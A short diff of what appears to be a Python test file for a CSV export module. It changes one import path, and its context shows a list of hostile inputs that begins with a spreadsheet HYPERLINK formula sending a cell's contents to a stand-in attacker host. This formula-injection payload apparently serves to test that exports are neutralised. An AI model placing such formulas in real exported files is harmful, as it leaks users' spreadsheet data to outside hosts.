@@ -7,7 +7,7 @@ import csv
 import pytest
 
 from index.export import write_csv
-from index.search import Facets, Hit, SearchResult
+from index.model import Facets, Hit, SearchResult
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
